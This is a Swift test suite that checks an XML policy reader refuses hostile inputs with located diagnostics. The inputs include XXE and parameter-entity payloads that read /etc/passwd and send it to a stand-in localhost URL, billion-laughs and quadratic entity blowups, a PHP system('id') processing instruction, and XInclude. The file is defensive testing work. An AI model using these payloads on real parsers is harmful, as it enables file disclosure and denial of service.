import Foundation
import PolicyDiagnostics
import TestSupport
import Testing

@testable import PolicyReader

// Hostile inputs: each must end in a diagnostic with a stable code and a location, quickly, with no
// document, no crash and no hang. The reader is the only stage that sees raw bytes, so these are
// the reader's tests rather than the CLI's.

/// Diagnostics' locations; `SourceLocation` alone is also Swift Testing's type.
private typealias Location = PolicyDiagnostics.SourceLocation

/// The ACM namespace every policy element lives in.
private let ibm = "http://www.ibm.com"

/// A small valid G3b policy (after the conformance corpus's `mini.xml`). Line numbers matter:
/// line 5 is `<Version>`, line 10 is the `<Type>` holding `red`, line 20 is `<Conflict>`.
private func policy(red: String = "Red", conflict: String = "C1", prolog: String = "") -> String {
    """
    <?xml version="1.0" encoding="UTF-8"?>\(prolog)
    <SecurityPolicyDefinition xmlns="http://www.ibm.com">
      <PolicyHeader>
        <PolicyName>mini</PolicyName>
        <Version>1.0</Version>
      </PolicyHeader>
      <SimpleTypeEnforcement>
        <SimpleTypeEnforcementTypes>
          <Type>SystemManagement</Type>
          <Type>\(red)</Type>
          <Type>Blue</Type>
        </SimpleTypeEnforcementTypes>
      </SimpleTypeEnforcement>
      <ChineseWall priority="PrimaryPolicyComponent">
        <ChineseWallTypes>
          <Type>Red</Type>
          <Type>Blue</Type>
        </ChineseWallTypes>
        <ConflictSets>
          <Conflict name="\(conflict)">
            <Type>Red</Type>
            <Type>Blue</Type>
          </Conflict>
        </ConflictSets>
      </ChineseWall>
      <SecurityLabelTemplate>
        <SubjectLabels bootstrap="SystemManagement">
          <VirtualMachineLabel>
            <Name>SystemManagement</Name>
            <SimpleTypeEnforcementTypes>
              <Type>SystemManagement</Type>
            </SimpleTypeEnforcementTypes>
          </VirtualMachineLabel>
        </SubjectLabels>
      </SecurityLabelTemplate>
    </SecurityPolicyDefinition>

    """
}

/// The same policy with every element written `ibm:Name` and the namespace bound to that prefix.
private func prefixedPolicy() -> String {
    var out = ""
    var previous: Character = " "
    for character in policy() {
        if previous == "<" && character.isLetter || previous == "/" && out.hasSuffix("</") {
            out += "ibm:"
        }
        out.append(character)
        previous = character
    }
    return out.replacingOccurrences(of: "xmlns=", with: "xmlns:ibm=")
}

/// `text` as UTF-8 with each `\u{1}` replaced by `replacement`, for bytes a Swift string cannot hold.
private func bytes(_ text: String, replacingMarkerWith replacement: [UInt8]) -> [UInt8] {
    Array(text.utf8).flatMap { $0 == 0x01 ? replacement : [$0] }
}

/// Runs `body` and returns its result with the wall-clock time it took.
private func timed<T>(_ body: () throws -> T) rethrows -> (T, Duration) {
    let clock = ContinuousClock()
    let start = clock.now
    let value = try body()
    return (value, clock.now - start)
}

/// Reads `bytes` as `hostile.xml`, timing the read.
private func read(_ bytes: [UInt8], schema: ACMSchema? = .g3b) -> (XMLReader.Result, Duration) {
    timed { XMLReader().read(bytes: bytes, path: "hostile.xml", schema: schema) }
}

private func read(_ text: String, schema: ACMSchema? = .g3b) -> (XMLReader.Result, Duration) {
    read(Array(text.utf8), schema: schema)
}

/// Expects `result` to be a refusal: no document, only errors, all located in `file`, the first with
/// `code` at `line`:`column` (nil: any line or column of at least 1), and the whole read within `budget`.
/// The budget only catches hangs (a test machine may be loaded); speed is measured by the benchmarks.
private func expectRefused(
    _ result: XMLReader.Result, _ elapsed: Duration, code: DiagnosticCode, line: Int? = nil, column: Int? = nil,
    file: String = "hostile.xml", budget: Duration = .seconds(60), sourceLocation: Testing.SourceLocation = #_sourceLocation
) {
    #expect(result.document == nil, "a hostile input produced a document", sourceLocation: sourceLocation)
    #expect(elapsed < budget, "took \(elapsed), budget \(budget)", sourceLocation: sourceLocation)
    guard let first = result.diagnostics.first else {
        Issue.record("refused without a diagnostic", sourceLocation: sourceLocation)
        return
    }
    #expect(first.code == code, "\(first.code): \(first.message)", sourceLocation: sourceLocation)
    for diagnostic in result.diagnostics {
        #expect(diagnostic.severity == .error, sourceLocation: sourceLocation)
        #expect(diagnostic.location.file == file, sourceLocation: sourceLocation)
        // Messages are one line: the renderers put the source excerpt under them.
        #expect(!diagnostic.message.contains("\n"), "\(diagnostic.message)", sourceLocation: sourceLocation)
        #expect(!diagnostic.message.isEmpty, sourceLocation: sourceLocation)
    }
    if let line {
        #expect(first.location.line == line, "\(first.location): \(first.message)", sourceLocation: sourceLocation)
    } else if code != "E0001", code != "E0002", code != "E0003" {
        #expect(first.location.line >= 1, "\(first.location): \(first.message)", sourceLocation: sourceLocation)
    }
    if let column {
        #expect(first.location.column == column, "\(first.location): \(first.message)", sourceLocation: sourceLocation)
    } else if code == "E0004" || code == "E0005" {
        // Parser errors always know their column.
        #expect(first.location.column >= 1, "\(first.location): \(first.message)", sourceLocation: sourceLocation)
    }
}

/// A fresh directory under the system's temporary directory, removed after `body`.
private func withTemporaryDirectory<R>(_ body: (String) throws -> R) throws -> R {
    let directory = FileManager.default.temporaryDirectory
        .appendingPathComponent("xen-policy-hostile-\(UUID().uuidString)").path
    try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: false)
    defer { try? FileManager.default.removeItem(atPath: directory) }
    return try body(directory)
}

@Suite("Hostile input")
struct HostileInputTests {
    @Test("the base policy is valid, so every refusal below is caused by its one change")
    func control() throws {
        let (result, _) = read(policy())
        #expect(result.diagnostics.isEmpty, "\(result.diagnostics)")
        let root = try #require(result.document?.root)
        #expect(root.localName == "SecurityPolicyDefinition")
        #expect(root.location == Location(file: "hostile.xml", line: 2, column: 1))
    }

    // MARK: DTDs and entities

    @Test("XXE: an external entity naming /etc/passwd is refused at the DOCTYPE, never resolved")
    func externalEntity() {
        let (result, elapsed) = read(
            policy(red: "&xxe;", prolog: "\n<!DOCTYPE SecurityPolicyDefinition [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"))
        expectRefused(result, elapsed, code: "E0005", line: 2, column: 1)
        #expect(!result.diagnostics.contains { $0.message.contains("root:") })
        #expect(result.diagnostics.count == 1)
    }

    @Test(
        "a DOCTYPE naming an external DTD is refused before it could be fetched",
        arguments: [
            "<!DOCTYPE SecurityPolicyDefinition SYSTEM \"http://127.0.0.1:9/acm.dtd\">",
            "<!DOCTYPE SecurityPolicyDefinition SYSTEM \"file:///etc/passwd\">",
            "<!DOCTYPE SecurityPolicyDefinition PUBLIC \"-//IBM//ACM//EN\"\n    \"http://127.0.0.1:9/acm.dtd\">",
        ])
    func externalDTD(doctype: String) {
        let (result, elapsed) = read(policy(prolog: "\n" + doctype))
        expectRefused(result, elapsed, code: "E0005", line: 2, column: 1)
    }

    @Test("parameter entities (the out-of-band XXE vector) are refused at the DOCTYPE")
    func parameterEntities() {
        let doctype = """

            <!DOCTYPE SecurityPolicyDefinition [
              <!ENTITY % file SYSTEM "file:///etc/passwd">
              <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>">
              %wrap;
              %send;
            ]>
            """
        let (result, elapsed) = read(policy(prolog: doctype))
        expectRefused(result, elapsed, code: "E0005", line: 2, column: 1)
    }

    @Test("billion laughs is refused at the DOCTYPE, in milliseconds")
    func billionLaughs() {
        var doctype = "\n<!DOCTYPE SecurityPolicyDefinition [\n  <!ENTITY lol0 \"lol\">\n"
        for level in 1...9 {
            doctype += "  <!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
        }
        doctype += "]>"
        let (result, elapsed) = read(policy(red: "&lol9;", prolog: doctype))
        expectRefused(result, elapsed, code: "E0005", line: 2, column: 1, budget: .seconds(60))
    }

    @Test("a quadratic blowup (one 100 kB entity referenced 10,000 times) is refused at the DOCTYPE")
    func quadraticBlowup() {
        let doctype = "\n<!DOCTYPE SecurityPolicyDefinition [<!ENTITY a \"" + String(repeating: "a", count: 100_000) + "\">]>"
        let (result, elapsed) = read(policy(red: String(repeating: "&a;", count: 10_000), prolog: doctype))
        expectRefused(result, elapsed, code: "E0005", line: 2, column: 1, budget: .seconds(60))
    }

    @Test("a DOCTYPE after a comment is located at the DOCTYPE, not at a look-alike inside the comment")
    func doctypeAfterComment() {
        let (result, elapsed) = read(policy(prolog: "\n<!-- <!DOCTYPE x> -->  <!DOCTYPE SecurityPolicyDefinition>"))
        expectRefused(result, elapsed, code: "E0005", line: 2, column: 24)
    }

    @Test("an entity reference without a DOCTYPE is an undefined entity, not an expansion")
    func undeclaredEntity() {
        let (result, elapsed) = read(policy(red: "&xxe;"))
        expectRefused(result, elapsed, code: "E0004", line: 10)
        #expect(result.diagnostics.first?.message.contains("xxe") == true)
    }

    // MARK: Files that are not small regular files

    @Test("a 1 GB sparse file is refused by its size without being read")
    func hugeSparseFile() throws {
        try withTemporaryDirectory { directory in
            let path = directory + "/huge.xml"
            let fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0o600)
            try #require(fd >= 0)
            #expect(ftruncate(fd, 1 << 30) == 0)
            close(fd)
            defer { unlink(path) }
            let (result, elapsed) = timed { XMLReader().read(file: path, schema: .g3b) }
            expectRefused(result, elapsed, code: "E0002", file: path, budget: .seconds(60))
            #expect(result.contents == nil, "the file was read")
            #expect(!result.isIOFailure, "too large is bad input, not an I/O error")
            #expect(result.diagnostics.first?.message.contains("1073741824") == true)
        }
    }

    @Test("the size limit also applies to bytes handed over directly")
    func oversizedBytes() {
        let reader = XMLReader(maximumInputSize: 1024)
        let (result, elapsed) = timed { reader.read(bytes: Array(policy().utf8), path: "hostile.xml", schema: .g3b) }
        expectRefused(result, elapsed, code: "E0002")
    }

    @Test("character devices and directories are not regular files", arguments: ["/dev/zero", "/dev/urandom", "/"])
    func notARegularFile(path: String) {
        let (result, elapsed) = timed { XMLReader().read(file: path, schema: .g3b) }
        expectRefused(result, elapsed, code: "E0001", file: path)
        #expect(result.diagnostics.first?.message.contains("not a regular file") == true)
        #expect(result.isIOFailure)
    }

    @Test("a FIFO with no writer is refused at once instead of blocking in open(2)")
    func fifo() throws {
        try withTemporaryDirectory { directory in
            let path = directory + "/policy.xml"
            try #require(mkfifo(path, 0o600) == 0)
            defer { unlink(path) }
            let outcome = Outcome()
            let finished = DispatchSemaphore(value: 0)
            Thread.detachNewThread {
                outcome.set(timed { XMLReader().read(file: path, schema: .g3b) })
                finished.signal()
            }
            if finished.wait(timeout: .now() + .seconds(3)) == .timedOut {
                // Opening the write end releases a reader blocked in open(2), so the test ends.
                let writer = open(path, O_WRONLY | O_NONBLOCK)
                if writer >= 0 { close(writer) }
                finished.wait()
                Issue.record("reading a FIFO blocked until a writer appeared")
            }
            let (result, elapsed) = try #require(outcome.value)
            expectRefused(result, elapsed, code: "E0001", file: path)
            #expect(result.diagnostics.first?.message.contains("not a regular file") == true)
        }
    }

    @Test("a missing file is an I/O error")
    func missingFile() {
        let path = "/nonexistent-\(UUID().uuidString)/policy.xml"
        let (result, elapsed) = timed { XMLReader().read(file: path, schema: .g3b) }
        expectRefused(result, elapsed, code: "E0001", file: path)
        #expect(result.isIOFailure)
    }

    @Test("an empty file is refused as empty")
    func emptyFile() throws {
        try withTemporaryDirectory { directory in
            let path = directory + "/empty.xml"
            try #require(FileManager.default.createFile(atPath: path, contents: Data()))
            let (result, elapsed) = timed { XMLReader().read(file: path, schema: .g3b) }
            expectRefused(result, elapsed, code: "E0003", file: path)
            #expect(!result.isIOFailure)
        }
        let (result, elapsed) = read([UInt8]())
        expectRefused(result, elapsed, code: "E0003")
    }

    @Test("a whitespace-only file is refused as empty")
    func whitespaceOnly() {
        let (result, elapsed) = read(" \n\t\r\n   \n")
        expectRefused(result, elapsed, code: "E0003")
    }

    // MARK: Bytes that are not UTF-8 XML

    @Test("binary garbage is not well-formed")
    func binaryGarbage() {
        var generator = SplitMix64(seed: 0x5EED)
        for _ in 0..<20 {
            let garbage = (0..<65_536).map { _ in UInt8(truncatingIfNeeded: generator.next()) }
            let (result, elapsed) = read(garbage)
            expectRefused(result, elapsed, code: "E0004")
        }
        // Garbage after a plausible start.
        let (result, elapsed) = read(Array("<?xml version=\"1.0\"?>\n<Secu".utf8) + [0xC0, 0x80, 0xFF, 0xFE, 0x00, 0x1B])
        expectRefused(result, elapsed, code: "E0004", line: 2)
    }

    @Test("invalid UTF-8 inside a Type name is located at the bad byte")
    func invalidUTF8InTypeName() {
        for bad: [UInt8] in [[0xFF], [0xC0, 0x80], [0xED, 0xA0, 0x80], [0xE2, 0x82]] {
            let (result, elapsed) = read(bytes(policy(red: "R\u{1}ed"), replacingMarkerWith: bad))
            expectRefused(result, elapsed, code: "E0004", line: 10, column: 14)
        }
    }

    @Test("UTF-16 without a byte order mark is refused", arguments: [false, true])
    func utf16WithoutBOM(bigEndian: Bool) {
        let text = policy().replacingOccurrences(of: "encoding=\"UTF-8\"", with: "encoding=\"UTF-16\"")
        let utf16 = text.utf16.flatMap { unit in
            let pair = [UInt8(truncatingIfNeeded: unit), UInt8(truncatingIfNeeded: unit >> 8)]
            return bigEndian ? pair.reversed() : pair
        }
        let (result, elapsed) = read(utf16)
        expectRefused(result, elapsed, code: "E0004", line: 1)
        // Without the XML declaration libxml2 sees '<' and then NUL bytes.
        let bare = Array(utf16.dropFirst(2 * text.prefix { $0 != "\n" }.utf16.count + 2))
        let (bareResult, bareElapsed) = read(bare)
        expectRefused(bareResult, bareElapsed, code: "E0004", line: 1)
    }

    @Test("NUL bytes are refused at their position")
    func nulBytes() {
        let (result, elapsed) = read(bytes(policy(red: "Re\u{1}d"), replacingMarkerWith: [0]))
        expectRefused(result, elapsed, code: "E0004", line: 10, column: 15)
        let (zeros, zerosElapsed) = read([UInt8](repeating: 0, count: 4096))
        expectRefused(zeros, zerosElapsed, code: "E0004", line: 1)
        let (lead, leadElapsed) = read([0] + Array(policy().utf8))
        expectRefused(lead, leadElapsed, code: "E0004", line: 1)
    }

    // MARK: Resource limits

    @Test("nesting 100,000 deep stops at libxml2's depth limit")
    func deepNesting() {
        let depth = 100_000
        let text = String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        let (result, elapsed) = read(text)
        expectRefused(result, elapsed, code: "E0004", line: 1)
        let message = result.diagnostics.first?.message ?? ""
        #expect(message.contains("depth"), "\(message)")
        // The cure libxml2 suggests is an option the reader never sets; it means nothing to a user.
        #expect(!message.contains("XML_PARSE_HUGE"), "\(message)")
    }

    @Test("a 20 MB text node is refused, not handed to the checker as a Type name")
    func hugeTextNode() {
        // Built as bytes: string interpolation of 20 MB costs more than the read in a debug build.
        let large = [UInt8](repeating: UInt8(ascii: "R"), count: 20 << 20)
        let (result, elapsed) = read(bytes(policy(red: "\u{1}"), replacingMarkerWith: large))
        expectRefused(result, elapsed, code: "E0004", line: 10, column: 7)
        // The same through a CDATA section, and through non-ASCII text (which libxml2 delivers in pieces).
        let cdata = Array("<![CDATA[".utf8) + large + Array("]]>".utf8)
        let (cdataResult, cdataElapsed) = read(bytes(policy(red: "\u{1}"), replacingMarkerWith: cdata))
        expectRefused(cdataResult, cdataElapsed, code: "E0004", line: 10)
        let wide = Array(String(repeating: "é", count: 10 << 20).utf8)
        let (wideResult, wideElapsed) = read(bytes(policy(red: "\u{1}"), replacingMarkerWith: wide))
        expectRefused(wideResult, wideElapsed, code: "E0004", line: 10)
    }

    @Test("a huge attribute value is refused")
    func hugeAttribute() {
        let large = [UInt8](repeating: UInt8(ascii: "C"), count: 11_000_000)
        let (result, elapsed) = read(bytes(policy(conflict: "\u{1}"), replacingMarkerWith: large))
        expectRefused(result, elapsed, code: "E0004", line: 20)
    }

    // MARK: Structure

    @Test("an unclosed tag at the end of the file is located at the end")
    func unclosedTagAtEOF() {
        let text = policy()
        let cut = String(text[..<text.range(of: "<Version>")!.upperBound]) + "1.0"
        let (result, elapsed) = read(cut)
        expectRefused(result, elapsed, code: "E0004", line: 5)
        #expect(result.diagnostics.contains { $0.message.contains("Version") })
    }

    @Test("processing instructions are inert: accepted, never executed, and no part of a Type name")
    func processingInstructions() throws {
        let text = policy(
            red: "Re<?php system('id'); ?>d",
            prolog: "\n<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:9/x.xsl\"?>")
        let (result, elapsed) = read(text)
        #expect(result.diagnostics.isEmpty, "\(result.diagnostics)")
        #expect(elapsed < .seconds(60))
        let root = try #require(result.document?.root)
        let types = root.child("SimpleTypeEnforcement", in: ibm)?.child("SimpleTypeEnforcementTypes", in: ibm)?
            .children("Type", in: ibm).map(\.text)
        #expect(types == ["SystemManagement", "Red", "Blue"])
    }

    @Test("XInclude is not processed: the include element stays an element and the schema refuses it")
    func xinclude() throws {
        try withTemporaryDirectory { directory in
            let included = directory + "/included.xml"
            try #require(FileManager.default.createFile(atPath: included, contents: Data("<Type>Injected</Type>".utf8)))
            let include =
                "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"\(included)\" parse=\"text\"/>"
            let text = policy().replacingOccurrences(
                of: "      <Type>Blue</Type>\n    </SimpleTypeEnforcementTypes>\n  </Simple",
                with: "      \(include)\n    </SimpleTypeEnforcementTypes>\n  </Simple")
            // Without a schema: the element is read as an element, nothing is included.
            let (plain, _) = read(text, schema: nil)
            let root = try #require(plain.document?.root)
            let types = try #require(
                root.child("SimpleTypeEnforcement", in: ibm)?.child("SimpleTypeEnforcementTypes", in: ibm))
            #expect(types.children.map(\.localName) == ["Type", "Type", "include"])
            #expect(types.children.last?.namespaceURI == "http://www.w3.org/2001/XInclude")
            #expect(types.children.allSatisfy { !$0.text.contains("Injected") })
            // With the schema: refused where the include is.
            let (result, elapsed) = read(text)
            expectRefused(result, elapsed, code: "E0010", line: 11, column: 7)
        }
    }

    @Test("well-formed XML with the wrong root element is a schema violation at the root")
    func wrongRoot() {
        let (result, elapsed) = read("<?xml version=\"1.0\"?>\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>\n")
        expectRefused(result, elapsed, code: "E0010", line: 2, column: 1)
        // The right name outside the ACM namespace is just as wrong.
        let (bare, bareElapsed) = read(policy().replacingOccurrences(of: " xmlns=\"http://www.ibm.com\"", with: ""))
        expectRefused(bare, bareElapsed, code: "E0010", line: 2, column: 1)
        // So is an inner ACM element on its own.
        let (inner, innerElapsed) = read("<Type xmlns=\"http://www.ibm.com\">Red</Type>")
        expectRefused(inner, innerElapsed, code: "E0010", line: 1, column: 1)
    }

    @Test("a schema violation is located at the offending element's line and column")
    func schemaViolationLocation() {
        let text = policy().replacingOccurrences(of: "<Version>", with: "<Bogus/>\n    <Version>")
        let (result, elapsed) = read(text)
        expectRefused(result, elapsed, code: "E0010", line: 5, column: 5)
        #expect(result.diagnostics.first?.message.contains("Bogus") == true)
    }

    @Test("the column is the start tag's even when a comment on the line holds a look-alike")
    func schemaViolationAfterComment() {
        let text = policy().replacingOccurrences(of: "<Version>", with: "<!-- <Bogus/> --> <Bogus/>\n    <Version>")
        let (result, elapsed) = read(text)
        expectRefused(result, elapsed, code: "E0010", line: 5, column: 23)
    }

    @Test("a start tag spread over several lines is located where it begins")
    func schemaViolationMultilineTag() {
        let text = policy().replacingOccurrences(of: "<Version>", with: "<Bogus\n      a=\"1\"\n      b=\"2\"/>\n    <Version>")
        let (result, elapsed) = read(text)
        expectRefused(result, elapsed, code: "E0010", line: 5, column: 5)
    }

    @Test("a root element at the very first byte, with attributes, is located without a crash")
    func rootAtFirstByte() throws {
        let text = "<SecurityPolicyDefinition xmlns=\"http://www.ibm.com\" bogus=\"1\"><PolicyHeader/></SecurityPolicyDefinition>"
        let (plain, _) = read(text, schema: nil)
        let root = try #require(plain.document?.root)
        #expect(root.location == Location(file: "hostile.xml", line: 1, column: 1))
        #expect(root.attribute("bogus")?.location == Location(file: "hostile.xml", line: 1, column: 54))
        let (result, elapsed) = read(text)
        expectRefused(result, elapsed, code: "E0010", line: 1, column: 1)
    }

    @Test("an attribute named like its element is located at the attribute")
    func attributeNamedLikeElement() throws {
        let (result, _) = read("<name name=\"x\"/>", schema: nil)
        let root = try #require(result.document?.root)
        #expect(root.attribute("name")?.location == Location(file: "hostile.xml", line: 1, column: 7))
    }

    // MARK: Legitimate XML that must still be read

    @Test("elements with the ibm: prefix validate and convert by namespace URI and local name")
    func ibmPrefix() throws {
        let text = prefixedPolicy()
        #expect(text.contains("<ibm:Type>Red</ibm:Type>"))
        let (result, elapsed) = read(text)
        #expect(result.diagnostics.isEmpty, "\(result.diagnostics)")
        #expect(elapsed < .seconds(60))
        let root = try #require(result.document?.root)
        #expect(root.namespaceURI == ibm)
        #expect(root.localName == "SecurityPolicyDefinition")
        #expect(root.qualifiedName == "ibm:SecurityPolicyDefinition")
        let types = try #require(root.child("SimpleTypeEnforcement", in: ibm)?.child("SimpleTypeEnforcementTypes", in: ibm))
        #expect(types.children("Type", in: ibm).map(\.text) == ["SystemManagement", "Red", "Blue"])
        #expect(types.children[1].qualifiedName == "ibm:Type")
        #expect(types.children[1].location == Location(file: "hostile.xml", line: 10, column: 7))
        let conflict = try #require(
            root.child("ChineseWall", in: ibm)?.child("ConflictSets", in: ibm)?.child("Conflict", in: ibm))
        #expect(conflict.attribute("name")?.value == "C1")
        #expect(conflict.attribute("name")?.location == Location(file: "hostile.xml", line: 20, column: 21))
    }

    @Test("CDATA sections and character and entity references in a Type name are read as text")
    func cdataAndReferences() throws {
        let cases: [(written: String, read: String)] = [
            ("<![CDATA[Red]]>", "Red"),
            ("R<![CDATA[e]]>d", "Red"),
            ("&#82;e&#x64;", "Red"),
            ("R&amp;D", "R&D"),
            ("&lt;Red&gt;", "<Red>"),
            ("<![CDATA[<Red>&amp;]]>", "<Red>&amp;"),
            ("Re&apos;d&quot;", "Re'd\""),
        ]
        for (written, expected) in cases {
            let (result, _) = read(policy(red: written))
            #expect(result.diagnostics.isEmpty, "\(written): \(result.diagnostics)")
            let types = try #require(
                result.document?.root.child("SimpleTypeEnforcement", in: ibm)?.child("SimpleTypeEnforcementTypes", in: ibm))
            #expect(types.children("Type", in: ibm)[1].text == expected, "\(written)")
        }
    }
}

/// A result handed from the thread that may block back to the test.
private final class Outcome: @unchecked Sendable {
    private let lock = NSLock()
    private var stored: (XMLReader.Result, Duration)?

    var value: (XMLReader.Result, Duration)? { lock.withLock { stored } }

    func set(_ value: (XMLReader.Result, Duration)) { lock.withLock { stored = value } }
}

/// A small deterministic generator, so that the garbage is the same on every run.
